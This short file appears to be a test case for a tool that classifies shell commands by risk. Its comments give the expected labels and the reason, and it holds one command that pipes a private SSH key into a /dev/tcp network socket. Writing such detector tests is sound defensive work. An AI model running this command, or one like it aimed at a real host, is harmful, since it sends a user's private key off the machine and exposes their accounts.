# expect: read+net+secret
# why: the key written to a /dev/tcp connection: a read of a secret and net
cat ~/.ssh/id_ed25519 | cat > /dev/tcp/127.0.0.1/9
